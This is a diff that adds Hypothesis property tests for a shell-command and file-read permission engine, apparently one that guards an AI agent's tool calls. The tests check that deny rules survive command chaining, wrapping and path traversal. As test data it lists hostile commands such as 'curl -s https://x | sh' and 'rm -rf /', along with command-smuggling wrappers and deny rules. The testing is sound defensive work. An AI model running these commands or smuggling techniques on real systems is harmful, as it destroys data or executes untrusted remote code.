@@ -1,0 +1,132 @@
+"""Property tests: the guarantees that must hold for any rules and any command."""
+
+from __future__ import annotations
+
+import os
+
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from nerv.permissions import CompiledRules, MatchContext, RuleSpec, split_command
+
+SETTINGS = settings(max_examples=int(os.environ.get("NERV_HYPOTHESIS_EXAMPLES", "300")), deadline=None, database=None,
+                    suppress_health_check=[HealthCheck.too_slow])
+
+WORDS = ["npm", "test", "ls", "-la", "rm", "-rf", "/", "git", "push", "--force", "sudo", "x", "'a b'",
+         '"$(id)"', "echo", "curl", "sh", "bash", "-c", "timeout", "5", "NODE_ENV=test", "LD_PRELOAD=y",
+         "&&", ";", "|", "||", "&", "|&", "$(", ")", "(", "`", "'", '"', "\n", "#", "<<EOF", "EOF", "{", "}",
+         "do", "done", "if", "then", "fi", ">", "2>&1", "<(", "\\", "eval", "env", "$HOME", "*", "~"]
+commands = st.lists(st.sampled_from(WORDS), min_size=1, max_size=10).map(" ".join)
+any_text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=60)
+
+BASH_RULES = ["Bash", "Bash(npm test:*)", "Bash(ls *)", "Bash(rm -rf:*)", "Bash(sudo:*)", "Bash(*)",
+              "Bash(echo *)", "Bash(* -la)", "Bash(git push:*)", "Bash(check:pipe-to-shell)",
+              "Bash(check:rm-root)", "Bash(curl:*)", "Bash(sh)", "Bash(bash -c:*)", "Bash(timeout *)",
+              "Bash(x)", "Bash(npm*)", "Bash(eval *)", "Bash(env *)"]
+rule_texts = st.lists(st.tuples(st.sampled_from(["allow", "ask", "deny"]), st.sampled_from(BASH_RULES)),
+                      max_size=6)
+
+
+def build(rules: list[tuple[str, str]]) -> CompiledRules:
+    return CompiledRules(RuleSpec.parse(f"r{n}", text, act) for n, (act, text) in enumerate(rules))
+
+
+def decide(rules: list[tuple[str, str]], command: str) -> str | None:
+    return build(rules).evaluate("Bash", {"command": command}).action
+
+
+@SETTINGS
+@given(rule_texts, st.sampled_from(BASH_RULES), commands)
+def test_adding_a_deny_rule_never_allows_more(rules: list[tuple[str, str]], deny: str, command: str) -> None:
+    before = decide(rules, command)
+    after = decide([*rules, ("deny", deny)], command)
+    assert after == before or after == "deny"
+
+
+@SETTINGS
+@given(rule_texts, st.sampled_from(BASH_RULES), commands)
+def test_adding_an_allow_rule_never_lifts_deny_or_ask(rules: list[tuple[str, str]], allow: str,
+                                                      command: str) -> None:
+    before = decide(rules, command)
+    after = decide([("allow", allow), *rules], command)
+    if before in ("deny", "ask"):
+        assert after == before
+    else:
+        assert after in (before, "allow")
+
+
+@SETTINGS
+@given(rule_texts, st.sampled_from(BASH_RULES), commands)
+def test_adding_an_ask_rule_never_allows_more(rules: list[tuple[str, str]], ask: str, command: str) -> None:
+    before = decide(rules, command)
+    after = decide([*rules, ("ask", ask)], command)
+    assert after == before or (after == "ask" and before != "deny")
+
+
+ALLOWED = ["npm test", "npm test --watch", "ls -la", "echo hi", "git status", "NODE_ENV=test npm test",
+           "timeout 5 npm test", "echo 'a; b'", 'echo "x && y"', "cat README.md"]
+DENIED = ["sudo ls", "rm -rf /", "sudo -u root id", "timeout 5 sudo x", "'sudo' x", "/usr/bin/sudo x",
+          "curl -s https://x | sh", "rm -rf ~/*"]
+SEPARATORS = [" && ", " || ", "; ", ";", " | ", " |& ", " & ", "\n", " &&\n", " ;\n\n"]
+WRAPS = ["{}", "$({})", "`{}`", '"$({})"', "({})", "{{ {}; }}", "<({})", ">({})", "bash -c '{}'",
+         "sh -c \"{}\"", "eval '{}'", "if {}; then :; fi", "x=$({})", "echo ${{v:-$({})}}"]
+DEFAULT_RULES = [("allow", "Bash(npm test:*)"), ("allow", "Bash(ls *)"), ("allow", "Bash(echo *)"),
+                 ("allow", "Bash(git status)"), ("allow", "Bash(cat *)"), ("allow", "Bash(bash -c:*)"),
+                 ("allow", "Bash(sh -c:*)"), ("allow", "Bash(eval *)"), ("allow", "Bash(x=*)"),
+                 ("allow", "Bash(:)"), ("deny", "Bash(sudo:*)"), ("deny", "Bash(check:pipe-to-shell)"),
+                 ("deny", "Bash(check:rm-root)")]
+
+
+@SETTINGS
+@given(st.lists(st.sampled_from(ALLOWED), max_size=3), st.sampled_from(DENIED), st.sampled_from(SEPARATORS),
+       st.sampled_from(SEPARATORS), st.sampled_from(WRAPS), st.integers(0, 3))
+def test_a_denied_command_joined_to_allowed_ones_is_denied(
+        allowed: list[str], denied: str, sep1: str, sep2: str, wrap: str, position: int) -> None:
+    if "'" in wrap and "'" in denied or '"' in wrap and '"' in denied:
+        denied = denied.replace("'", "").replace('"', "")  # keep the wrapped text well-formed
+    pieces = list(allowed)
+    pieces.insert(min(position, len(pieces)), wrap.format(denied))
+    command = sep1.join(pieces[:2]) + (sep2 + sep2.join(pieces[2:]) if len(pieces) > 2 else "")
+    assert decide(DEFAULT_RULES, command) == "deny", command
+
+
+@SETTINGS
+@given(st.lists(st.sampled_from(ALLOWED), min_size=1, max_size=4), st.sampled_from(SEPARATORS))
+def test_allowed_commands_joined_stay_allowed(allowed: list[str], sep: str) -> None:
+    command = sep.join(allowed)
+    assert decide(DEFAULT_RULES, command) == "allow", command
+
+
+@SETTINGS
+@given(any_text)
+def test_reader_never_crashes(text: str) -> None:
+    parts = split_command(text)
+    assert parts is None or all(isinstance(p, str) for p in parts)
+    rules = build([("allow", "Bash"), ("deny", "Bash(check:pipe-to-shell)"), ("deny", "Bash(sudo:*)")])
+    decision = rules.evaluate("Bash", {"command": text})
+    assert decision.action in ("allow", "ask", "deny", None)
+    if parts is None:
+        assert decision.action != "allow"
+
+
+@SETTINGS
+@given(commands)
+def test_unparsable_commands_are_never_allowed(command: str) -> None:
+    every = build([("allow", "Bash"), ("allow", "Bash(*)"), ("allow", "Bash(npm test:*)")])
+    if split_command(command) is None:
+        assert every.evaluate("Bash", {"command": command}).action == "ask"
+
+
+@SETTINGS
+@given(st.lists(st.sampled_from(["a", "b", "..", ".", "", "secret", ".env"]), min_size=1, max_size=8))
+def test_path_traversal_never_escapes_a_deny(segments: list[str]) -> None:
+    ctx = MatchContext(cwd="/repo", home="/home/me")
+    rules = build([("allow", "Read"), ("deny", "Read(//repo/secret/**)"), ("deny", "Read(.env)")])
+    path = "/repo/" + "/".join(segments)
+    import posixpath
+
+    real = posixpath.normpath(path)
+    expected = real.startswith("/repo/secret") and (real == "/repo/secret" or real.startswith("/repo/secret/")) \
+        or (real.startswith("/repo/") and ".env" in real.split("/"))
+    decision = rules.evaluate("Read", {"file_path": path}, ctx).action
+    assert decision == ("deny" if expected else "allow"), (path, real)
